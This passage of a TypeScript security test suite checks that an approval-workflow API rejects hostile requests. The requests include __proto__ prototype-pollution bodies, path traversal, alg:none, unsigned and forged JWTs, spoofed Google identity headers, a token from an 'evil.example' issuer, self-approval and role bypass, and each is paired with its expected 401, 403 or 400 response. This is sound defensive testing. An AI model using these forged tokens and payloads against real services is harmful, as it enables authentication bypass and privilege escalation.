    ),
    reg(
      'a config key toString (demo.sleep)',
      taskRaw('cfg-tostring', 'demo.sleep', '{"ms":1,"toString":"x"}'),
    ),
    reg(
      'a __proto__ key inside an http.request body',
      taskRaw(
        'cfg-body-proto',
        'http.request',
        `{"url":"${PARTNER}/u","method":"DELETE","body":{"__proto__":{"isAdmin":true},"u":"{{subject.email}}"}}`,
      ),
    ),
    reg(
      'a top-level __proto__ key',
      taskRaw('top-proto', 'noop', '{}', ',"__proto__":{"active":true}'),
    ),
    reg(
      '25 levels of nesting in a task config',
      json(httpTask('deep-config', { url: `${PARTNER}/u/{{subject.email}}`, body: nested(25) })),
    ),
    patch('PATCH with 25 levels of nesting in a task config', TASKS.http, {
      config: { url: `${PARTNER}/u/{{subject.email}}`, method: 'DELETE', body: nested(25) },
    }),
    reg('30 000 nested arrays', raw(`${'['.repeat(30_000)}${']'.repeat(30_000)}`)),
    reg(
      'a lone surrogate in a task name',
      raw(
        '{"id":"surrogate-name","name":"\\ud800","jobType":"deletion","executor":"noop","active":false}',
      ),
    ),
    reg('malformed JSON', raw('{')),
    patch('PATCH with malformed JSON', TASKS.fail, raw('{,}')),
  ];
}

function approvals(): HostileCase[] {
  const approve = (name: string, body: Buffer, as = APPROVER): HostileCase => ({
    name: `approval: ${name}`,
    fn: 'api',
    method: 'POST',
    path: (fx) => `/requests/${fx.own}/approve`,
    as,
    body,
    status: 400,
    code: 'validation_failed',
  });
  return [
    {
      name: 'approval: the filer approves their own request',
      fn: 'api',
      method: 'POST',
      path: (fx) => `/requests/${fx.own}/approve`,
      as: DEV,
      body: json({}),
      status: 403,
      code: 'self_approval',
    },
    {
      name: 'approval: the filer denies their own request',
      fn: 'api',
      method: 'POST',
      path: (fx) => `/requests/${fx.denyTarget}/deny`,
      as: DEV,
      body: json({ reason: 'other', note: 'changed my mind' }),
      status: 403,
      code: 'self_approval',
    },
    {
      name: 'approval: the filer approves with a forged token naming the approver',
      fn: 'api',
      method: 'POST',
      path: (fx) => `/requests/${fx.own}/approve`,
      as: DEV,
      headers: {
        authorization: `Bearer ${algNoneToken(googleClaims(APPROVER, API_AUDIENCE))}`,
        'x-goog-authenticated-user-email': `accounts.google.com:${APPROVER}`,
      },
      body: json({}),
      status: 403,
      code: 'self_approval',
    },
    approve('taskIds [__proto__]', json({ taskIds: ['__proto__'] })),
    approve('taskIds [..]', json({ taskIds: ['..'] })),
    approve('taskIds with an encoded path', json({ taskIds: [`${TASKS.gated}/runs/x`] })),
    approve('taskIds with a lone surrogate', raw('{"taskIds":["\\ud800"]}')),
    approve('taskIds []', json({ taskIds: [] })),
    approve('an unknown field', json({ approveAll: true })),
    approve('a __proto__ field', raw('{"__proto__":{"taskIds":["x"]}}')),
    {
      name: 'approval: a deny reason with a lone surrogate',
      fn: 'api',
      method: 'POST',
      path: (fx) => `/requests/${fx.denyTarget}/deny`,
      as: APPROVER,
      body: raw('{"reason":"\\ud800"}'),
      status: 400,
      code: 'validation_failed',
    },
    {
      name: 'approval: an empty deny reason',
      fn: 'api',
      method: 'POST',
      path: (fx) => `/requests/${fx.denyTarget}/deny`,
      as: APPROVER,
      body: json({ reason: '   ' }),
      status: 400,
      code: 'validation_failed',
    },
    {
      name: 'approval: a deny reason outside the list',
      fn: 'api',
      method: 'POST',
      path: (fx) => `/requests/${fx.denyTarget}/deny`,
      as: APPROVER,
      body: json({ reason: 'identity not verified' }),
      status: 400,
      code: 'validation_failed',
    },
    {
      name: 'approval: a deny note with a lone surrogate',
      fn: 'api',
      method: 'POST',
      path: (fx) => `/requests/${fx.denyTarget}/deny`,
      as: APPROVER,
      body: raw('{"reason":"other","note":"\\ud800"}'),
      status: 400,
      code: 'validation_failed',
    },
    {
      name: 'audit: an inherited identifier name in the audit subject',
      fn: 'api',
      method: 'POST',
      path: `/tasks/${TASKS.fail}/audit`,
      body: raw('{"subject":{"constructor":"x"}}'),
      status: 400,
      code: 'validation_failed',
    },
    {
      name: 'audit: a lone surrogate in the audit subject',
      fn: 'api',
      method: 'POST',
      path: `/tasks/${TASKS.fail}/audit`,
      body: raw('{"subject":{"failId":"\\ud800"}}'),
      status: 400,
      code: 'validation_failed',
    },
    {
      name: 'retry: an unknown field in the body',
      fn: 'api',
      method: 'POST',
      path: (fx) => `/requests/${fx.failed}/instances/${TASKS.fail}/retry`,
      body: json({ series: 1, force: true }),
      status: 400,
      code: 'validation_failed',
    },
  ];
}

function policy(): HostileCase[] {
  const put = (
    name: string,
    body: Lazy<Buffer>,
    status = 400,
    code: ErrorCode = 'validation_failed',
  ): HostileCase => ({
    name: `policy: ${name}`,
    fn: 'api',
    method: 'PUT',
    path: '/iam/policy',
    body,
    status,
    code,
  });
  return [
    put(
      'a stale etag',
      (fx) => json({ bindings: fx.bindings, etag: fx.staleEtag }),
      409,
      'policy_conflict',
    ),
    put('no etag', (fx) => json({ bindings: fx.bindings })),
    put(
      'an unknown role',
      json({ bindings: [{ role: 'superuser', members: [`user:${NOBODY}`] }], etag: 'x' }),
    ),
    put(
      'a member without a kind',
      json({ bindings: [{ role: 'admin', members: [NOBODY] }], etag: 'x' }),
    ),
    put(
      'a __proto__ group',
      raw('{"bindings":[],"groups":{"__proto__":["user:nobody@localhost"]},"etag":"x"}'),
    ),
    put(
      'a role named __proto__',
      raw('{"bindings":[{"role":"__proto__","members":["user:nobody@localhost"]}],"etag":"x"}'),
    ),
    put('malformed JSON', raw('{"bindings":')),
  ];
}

/** Every identity × route it must not call: 403 naming the role, or 404 for another's request. */
interface RouteCall {
  key: string;
  method: string;
  path: Lazy<string>;
  body?: Lazy<Buffer>;
  roles: readonly string[];
}

const ALL_ROLES: readonly string[] = ROLES;

const ROUTE_CALLS: RouteCall[] = [
  {
    key: 'POST /requests',
    method: 'POST',
    path: '/requests',
    body: json(filing({ plainId: 'role-x' })),
    roles: ['requester'],
  },
  {
    key: 'GET /requests',
    method: 'GET',
    path: '/requests',
    roles: ['requester', 'approver', 'operator', 'auditor', 'admin'],
  },
  {
    key: 'GET /requests/:id',
    method: 'GET',
    path: (fx) => `/requests/${fx.own}`,
    roles: ['requester', 'approver', 'operator', 'auditor', 'admin'],
  },
  {
    key: 'approve',
    method: 'POST',
    path: (fx) => `/requests/${fx.own}/approve`,
    body: json({}),
    roles: ['approver'],
  },
  {
    key: 'deny',
    method: 'POST',
    path: (fx) => `/requests/${fx.denyTarget}/deny`,
    body: json({ reason: 'excessive' }),
    roles: ['approver'],
  },
  {
    key: 'cancel',
    method: 'POST',
    path: (fx) => `/requests/${fx.held}/cancel`,
    roles: ['operator'],
  },
  {
    key: 'retry',
    method: 'POST',
    path: (fx) => `/requests/${fx.failed}/instances/${TASKS.fail}/retry`,
    body: json({}),
    roles: ['operator'],
  },
  {
    key: 'runs',
    method: 'GET',
    path: (fx) => `/requests/${fx.failed}/runs`,
    roles: ['operator', 'auditor', 'admin'],
  },
  {
    key: 'evidence',
    method: 'GET',
    path: (fx) => `/requests/${fx.failed}/evidence`,
    roles: ['auditor', 'operator', 'admin'],
  },
  {
    key: 'records',
    method: 'GET',
    path: (fx) => `/requests/${fx.records}/records`,
    roles: ['records_reader'],
  },
  { key: 'GET /tasks', method: 'GET', path: '/tasks', roles: ALL_ROLES },
  { key: 'GET /tasks/:id', method: 'GET', path: `/tasks/${TASKS.fail}`, roles: ALL_ROLES },
  {
    key: 'GET /tasks/:id/versions',
    method: 'GET',
    path: `/tasks/${TASKS.fail}/versions`,
    roles: ALL_ROLES,
  },
  {
    key: 'POST /tasks',
    method: 'POST',
    path: '/tasks',
    body: json(validTask('role-registered')),
    roles: ['admin'],
  },
  {
    key: 'PATCH /tasks/:id',
    method: 'PATCH',
    path: `/tasks/${TASKS.fail}`,
    body: json({ description: 'changed by a stranger' }),
    roles: ['admin'],
  },
  {
    key: 'audit',
    method: 'POST',
    path: `/tasks/${TASKS.fail}/audit`,
    body: json({ subject: { failId: 'a' } }),
    roles: ['task_tester'],
  },
  { key: 'GET /iam/policy', method: 'GET', path: '/iam/policy', roles: ['admin', 'auditor'] },
  // A stale etag: were the role check missing, the answer is 409, still nothing written.
  {
    key: 'PUT /iam/policy',
    method: 'PUT',
    path: '/iam/policy',
    body: (fx) => json({ bindings: fx.bindings, etag: fx.staleEtag }),
    roles: ['admin'],
  },
];

const IDENTITIES: [string, readonly string[]][] = [
  [NOBODY, []],
  [APPROVER, ['approver']],
  [AUDITOR, ['auditor']],
  [REQUESTER, ['requester']],
  [OPERATOR, ['operator']],
  [RECORDS_READER, ['records_reader']],
];

function roles(): HostileCase[] {
  const cases: HostileCase[] = [];
  for (const [identity, held] of IDENTITIES) {
    for (const r of ROUTE_CALLS) {
      const allowed = r.roles.some((role) => held.includes(role));
      if (identity === REQUESTER && r.key === 'GET /requests/:id') {
        cases.push({
          name: `roles: ${identity} reads another's request`,
          fn: 'api',
          method: r.method,
          path: r.path,
          as: identity,
          status: 404,
          code: 'not_found',
        });
        continue;
      }
      if (allowed) continue;
      cases.push({
        name: `roles: ${identity} ${r.key}`,
        fn: 'api',
        method: r.method,
        path: r.path,
        as: identity,
        ...(r.body === undefined ? {} : { body: r.body }),
        status: 403,
        code: 'forbidden',
      });
    }
  }
  return cases;
}

/** Client-asserted identities in local mode: none may change who the caller is. */
function localIdentity(): HostileCase[] {
  const asNobody = (name: string, headers: Record<string, string>): HostileCase => ({
    name: `identity (local): ${name} does not make nobody@localhost an admin`,
    fn: 'api',
    method: 'POST',
    path: '/tasks',
    as: NOBODY,
    headers,
    body: json(validTask('identity-forged')),
    status: 403,
    code: 'forbidden',
  });
  const claims = googleClaims(DEV, API_AUDIENCE);
  return [
    asNobody('an alg:none bearer token for developer', {
      authorization: `Bearer ${algNoneToken(claims)}`,
    }),
    asNobody('a forwarded-looking token for developer', {
      authorization: `Bearer ${forwardedToken(claims)}`,
    }),
    asNobody('x-goog-authenticated-user-email', {
      'x-goog-authenticated-user-email': `accounts.google.com:${DEV}`,
    }),
    asNobody('X-Serverless-Authorization', {
      'x-serverless-authorization': `Bearer ${forwardedToken(claims)}`,
    }),
    asNobody('a forged IAP assertion', {
      'x-goog-iap-jwt-assertion': randomKeyToken({
        ...claims,
        iss: 'https://cloud.google.com/iap',
      }),
    }),
    ...['not-an-email', 'a@b@c', '<script>@example.com', `${DEV},${APPROVER}`].map(
      (value): HostileCase => ({
        name: `identity (local): X-Dev-Identity '${value}'`,
        fn: 'api',
        method: 'GET',
        path: '/requests',
        as: value,
        status: 401,
        code: 'unauthenticated',
      }),
    ),
  ];
}

/** The forged run-task payload: a real instance held back by notBefore, due at once. */
const heldPayload = (fx: Fixtures) =>
  json({
    requestId: fx.held,
    taskId: TASKS.held,
    series: 1,
    attempt: 1,
    taskVersion: fx.heldTaskVersion,
  });

function serviceCalls(): HostileCase[] {
  const invokerClaims = (fx: Fixtures) => ({
    ...googleClaims(INVOKER, fx.runTaskAudience),
    iss: fx.emulatorIssuer,
  });
  const schedulerClaims = (fx: Fixtures) => ({
    ...googleClaims(SCHEDULER, fx.dispatchAudience),
    iss: fx.emulatorIssuer,
  });
  const call = (
    fn: 'runTask' | 'dispatch',
    name: string,
    auth: Lazy<Record<string, string>>,
    status = 401,
    code: ErrorCode = status === 401 ? 'unauthenticated' : 'forbidden',
  ): HostileCase => ({
    name: `${fn}: ${name}`,
    fn,
    method: 'POST',
    path: '/',
    as: null,
    headers: auth,
    body: fn === 'runTask' ? heldPayload : json({}),
    status,
    code,
  });
  const bearer = (token: string) => ({ authorization: `Bearer ${token}` });
  const cases: HostileCase[] = [];
  for (const fn of ['runTask', 'dispatch'] as const) {
    const claims = fn === 'runTask' ? invokerClaims : schedulerClaims;
    cases.push(
      call(fn, 'no token', {}),
      call(fn, 'an empty bearer', { authorization: 'Bearer ' }),
      call(fn, 'Basic credentials', { authorization: 'Basic ZGV2ZWxvcGVyOnBhc3N3b3Jk' }),
      call(fn, 'a garbage token', bearer('not.a.jwt')),
      call(fn, 'an alg:none token', (fx) => bearer(algNoneToken(claims(fx)))),
      call(fn, 'an unsigned token', (fx) => bearer(unsignedToken(claims(fx)))),
      call(fn, 'a token signed with a random key', (fx) => bearer(randomKeyToken(claims(fx)))),
      call(fn, "a random-key token naming the emulator's key id", (fx) =>
        bearer(randomKeyToken(claims(fx), fx.emulatorKid)),
      ),
      call(fn, 'an expired random-key token', (fx) =>
        bearer(randomKeyToken(expiredClaims(claims(fx)), fx.emulatorKid)),
      ),
      call(fn, 'a forwarded-looking token (SIGNATURE_REMOVED_BY_GOOGLE)', (fx) =>
        bearer(forwardedToken(claims(fx))),
      ),
      call(fn, 'the caller only in x-goog-authenticated-user-email', {
        'x-goog-authenticated-user-email': `accounts.google.com:${fn === 'runTask' ? INVOKER : SCHEDULER}`,
      }),
      call(fn, 'a token with an empty signature', (fx) =>
        bearer(tokenWithSignature(claims(fx), '')),
      ),
    );
  }
  cases.push(
    call(
      'runTask',
      'an emulator-signed token for another service account',
      (fx) => bearer(fx.emulatorTokens.runTaskWrongAccount),
      403,
    ),
    call('runTask', 'an emulator-signed token for another audience', (fx) =>
      bearer(fx.emulatorTokens.runTaskWrongAudience),
    ),
    call('runTask', 'an emulator-signed api token', (fx) => bearer(fx.emulatorTokens.apiForAdmin)),
    call(
      'dispatch',
      "an emulator-signed token for the tasks invoker (not the scheduler's account)",
      (fx) => bearer(fx.emulatorTokens.dispatchAsInvoker),
      403,
    ),
    {
      name: 'runTask: malformed JSON',
      fn: 'runTask',
      method: 'POST',
      path: '/',
      as: null,
      body: raw('{"requestId":'),
      status: 400,
      code: 'validation_failed',
    },
    {
      name: 'dispatch: malformed JSON',
      fn: 'dispatch',
      method: 'POST',
      path: '/',
      as: null,
      body: raw('{'),
      status: 400,
      code: 'validation_failed',
    },
    {
      name: 'runTask: invalid UTF-8',
      fn: 'runTask',
      method: 'POST',
      path: '/',
      as: null,
      body: withBytes('{"requestId":"', Buffer.from([0xff]), '"}'),
      status: 400,
      code: 'invalid_utf8',
    },
    {
      name: 'dispatch: invalid UTF-8',
      fn: 'dispatch',
      method: 'POST',
      path: '/',
      as: null,
      body: withBytes('{"x":"', Buffer.from([0xc0, 0xaf]), '"}'),
      status: 400,
      code: 'invalid_utf8',
    },
  );
  return cases;
}

/** The whole local-mode table. */
export function localCases(): HostileCase[] {
  const cases = [
    ...pathInjection(),
    ...notFound(),
    ...methods(),
    ...queries(),
    ...intake(),
    ...encodings(),
    ...sizes(),
    ...tasks(),
    ...approvals(),
    ...policy(),
    ...roles(),
    ...localIdentity(),
    ...serviceCalls(),
  ];
  assertUniqueNames(cases);
  return cases;
}

/**
 * Against an api started with LOCAL_MODE=false: Cloud Run's forwarded token is the only source
 * of identity, checked for issuer, audience, expiry and a verified email.
 */
export function deployedCases(): HostileCase[] {
  const claims = (email = DEPLOYED_ADMIN) => googleClaims(email, API_AUDIENCE);
  const bearer = (token: string) => ({ authorization: `Bearer ${token}` });
  const unauth = (name: string, headers: Lazy<Record<string, string>>): HostileCase => ({
    name: `identity (deployed): ${name}`,
    fn: 'api',
    method: 'GET',
    path: '/tasks',
    as: null,
    headers,
    status: 401,
    code: 'unauthenticated',
  });
  const cases: HostileCase[] = [
    unauth('no credentials', {}),
    unauth('X-Dev-Identity is ignored outside local mode', { 'x-dev-identity': DEV }),
    unauth('x-goog-authenticated-user-email alone', {
      'x-goog-authenticated-user-email': `accounts.google.com:${DEPLOYED_ADMIN}`,
    }),
    unauth('an alg:none token', bearer(algNoneToken(claims()))),
    unauth('an unsigned token', bearer(unsignedToken(claims()))),
    unauth(
      'a real RS256 signature instead of SIGNATURE_REMOVED_BY_GOOGLE',
      bearer(randomKeyToken(claims())),
    ),
    unauth('an emulator-signed token (a real signature) for the api audience', (fx) =>
      bearer(fx.emulatorTokens.apiForAdmin),
    ),
    unauth('an expired forwarded token', bearer(forwardedToken(expiredClaims(claims())))),
    unauth(
      'a forwarded token for another audience',
      bearer(forwardedToken(googleClaims(DEPLOYED_ADMIN, 'https://run-task.example'))),
    ),
    unauth(
      'a forwarded token from another issuer',
      bearer(forwardedToken({ ...claims(), iss: 'https://evil.example' })),
    ),
    unauth(
      'a forwarded token with email_verified false',
      bearer(forwardedToken({ ...claims(), email_verified: false })),
    ),
    unauth(
      'a forwarded token with email_verified "true" (a string)',
      bearer(forwardedToken({ ...claims(), email_verified: 'true' })),
    ),
    unauth(
      'a forwarded token without email',
      bearer(forwardedToken({ ...claims(), email: undefined })),
    ),
    unauth(
      'a forwarded token without exp',
      bearer(forwardedToken({ ...claims(), exp: undefined })),
    ),
    unauth('a garbage X-Serverless-Authorization beside a valid Authorization', {
      'x-serverless-authorization': 'Bearer garbage',
      authorization: `Bearer ${forwardedToken(claims())}`,
    }),
    unauth('a forged IAP assertion (no IAP audience configured)', {
      'x-goog-iap-jwt-assertion': randomKeyToken({
        ...claims(),
        iss: 'https://cloud.google.com/iap',
      }),
    }),
    unauth('a lower-case "bearer" scheme with garbage', { authorization: 'bearer garbage' }),
    {
      name: 'identity (deployed): a valid token for an identity with no role',
      fn: 'api',
      method: 'GET',
      path: '/tasks',
      as: null,
      headers: bearer(forwardedToken(claims(DEPLOYED_NOBODY))),
      status: 403,
      code: 'forbidden',
    },
    {
      name: 'identity (deployed): X-Serverless-Authorization names the caller, never Authorization',
      fn: 'api',
      method: 'POST',
      path: '/tasks',
      as: null,
      headers: {
        'x-serverless-authorization': `Bearer ${forwardedToken(claims(DEPLOYED_NOBODY))}`,
        authorization: `Bearer ${forwardedToken(claims(DEPLOYED_ADMIN))}`,
      },
      body: json(validTask('deployed-forged')),
      status: 403,
      code: 'forbidden',
    },
    {
      name: 'identity (deployed): a valid admin token still gets a 400 for a bad id (control)',
      fn: 'api',
      method: 'GET',
      path: '/requests/..',
      as: null,
      headers: bearer(forwardedToken(claims())),
      status: 400,
      code: 'validation_failed',
      issuePath: 'id',
    },
  ];
  assertUniqueNames(cases);
  return cases;
}

function assertUniqueNames(cases: readonly HostileCase[]): void {
  const seen = new Set<string>();
  for (const c of cases) {
    if (seen.has(c.name)) throw new Error(`duplicate hostile case name: ${c.name}`);
    seen.add(c.name);
  }
}
